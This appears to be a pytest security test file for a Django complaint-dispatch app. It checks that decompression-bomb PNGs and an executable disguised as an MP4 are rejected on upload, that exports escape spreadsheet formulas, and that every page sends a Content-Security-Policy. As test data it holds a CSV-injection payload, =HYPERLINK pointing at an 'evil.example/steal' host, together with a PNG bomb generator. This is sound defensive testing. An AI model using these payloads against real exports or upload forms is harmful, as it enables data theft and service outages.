"""Uploads and exports, tried as an attacker would: a 30000×30000 PNG (a decompression bomb) as evidence
and as a complaint photo, a file with ``ftyp`` at byte 4 posing as an MP4, formulas in names that end up in
the CSV and Excel exports; and the Content-Security-Policy every page carries."""
import csv
import io
import struct
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from core import clock
from dispatch import services
from dispatch.models import Attachment, Complaint
from enterprises.models import Role
from tests import factories as f
from tests.api.conftest import T0, client_for

FORMULA = '=HYPERLINK("http://evil.example/steal","点我")'


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that declares ``width``×``height`` pixels but is a few dozen bytes long."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + \
        chunk(b"IEND", b"")


def box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def mp4(with_movie: bool = True) -> bytes:
    ftyp = box(b"ftyp", b"isom" + struct.pack(">I", 512) + b"isomiso2mp41")
    return ftyp + (box(b"moov", box(b"mvhd", b"\x00" * 100)) if with_movie else b"") + box(b"mdat", b"\x00" * 64)


@pytest.fixture
def feedback(world):
    with clock.frozen(T0):
        for step in ("accept", "start"):
            services.work_order_act(order_id=world.order_a.pk, action=step, user=world.users["township_a"])
        fb, _ = services.feedback_submit(order_id=world.order_a.pk, user=world.users["township_a"], text="已整改",
                                         declared_files=3)
    return world, fb


def upload(world, fb, name: str, data: bytes, content_type: str):
    return client_for(world.users["township_a"]).post(
        f"/api/v1/feedbacks/{fb.pk}/attachments/",
        {"file": SimpleUploadedFile(name, data, content_type=content_type)}, format="multipart")


def test_a_decompression_bomb_is_refused_with_400(feedback):
    world, fb = feedback
    response = upload(world, fb, "bomb.png", png_header_only(30000, 30000), "image/png")
    assert response.status_code == 400, response.content
    assert response.json()["code"] == "evidence_error" and "40" in response.json()["detail"]  # says why
    assert not Attachment.objects.filter(feedback=fb).exists()


def test_a_bomb_as_complaint_photo_is_refused_on_both_public_forms(world):
    bomb = png_header_only(30000, 30000)
    response = Client(REMOTE_ADDR="10.4.0.1").post(reverse("dispatch:complain"), {
        "township": world.town_a.pk, "text": "河道有异味，请来看看",
        "photo": SimpleUploadedFile("bomb.png", bomb, content_type="image/png")})
    assert response.status_code == 400
    big = png_header_only(9000, 9000)  # 81 megapixels: below Pillow's own bomb limit, above ours
    response = Client(REMOTE_ADDR="10.4.0.2").post(reverse("dispatch:complain"), {
        "township": world.town_a.pk, "text": "河道有异味，请来看看",
        "photo": SimpleUploadedFile("big.png", big, content_type="image/png")})
    assert response.status_code == 400
    assert Complaint.objects.count() == 2  # only the world's two


def test_ftyp_at_byte_4_is_not_a_video(feedback):
    world, fb = feedback
    fake = b"\x00\x00\x00\x18ftypmp42" + b"MZ\x90\x00 this is an executable" * 20
    assert upload(world, fb, "clip.mp4", fake, "video/mp4").status_code == 400
    assert upload(world, fb, "clip.mp4", mp4(with_movie=False), "video/mp4").status_code == 400
    good = upload(world, fb, "我的视频.mp4", mp4(), "video/mp4")
    assert good.status_code == 201, good.content
    stored = Attachment.objects.get(feedback=fb)
    assert stored.content_type == "video/mp4" and "我的视频" not in stored.file.name
    assert stored.file.name.endswith(".mp4")


@pytest.mark.django_db
def test_formulas_are_escaped_in_the_officer_stats_csv():
    bureau = f.user(Role.BUREAU)
    officer = f.user(Role.ENFORCEMENT)
    officer.first_name = FORMULA
    officer.save(update_fields=["first_name"])
    client = Client()
    client.force_login(bureau)
    response = client.get(reverse("enforcement:officer-stats-csv"))  # the statistics moved to enforcement
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = [row[0] for row in rows[1:]]
    assert "'" + FORMULA in names and FORMULA not in names


@pytest.mark.django_db
def test_formulas_are_escaped_in_the_ranking_exports():
    town = f.township("+SUM(1,2)")
    town.name = FORMULA
    town.save(update_fields=["name"])
    client = Client()
    client.force_login(f.user(Role.BUREAU))
    table = list(csv.reader(io.StringIO(client.get(reverse("dashboard:ranking-csv")).content.decode("utf-8-sig"))))
    assert ["'" + FORMULA] == [cell for row in table for cell in row if FORMULA in cell]
    book = load_workbook(io.BytesIO(client.get(reverse("dashboard:ranking-xlsx")).content))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value and FORMULA in str(cell.value)]
    assert cells and all(cell.data_type == "s" for cell in cells)


@pytest.mark.django_db
def test_every_page_carries_a_content_security_policy():
    client = Client()
    client.force_login(f.user(Role.BUREAU))
    page = client.get(reverse("dashboard:map"))
    policy = page["Content-Security-Policy"]
    assert "script-src 'self' 'nonce-" in policy and "object-src 'none'" in policy
    assert "frame-ancestors 'none'" in policy and "unsafe-eval" not in policy
    nonce = policy.split("'nonce-")[1].split("'")[0]
    html = page.content.decode()
    inline = [chunk.split(">", 1)[0] for chunk in html.split("<script")[1:] if "src=" not in chunk.split(">", 1)[0]]
    assert inline and all(f'nonce="{nonce}"' in tag or "application/json" in tag for tag in inline)
    assert " on" + "submit=" not in html and " on" + "click=" not in html
    assert "Content-Security-Policy" in Client().get(reverse("login"))
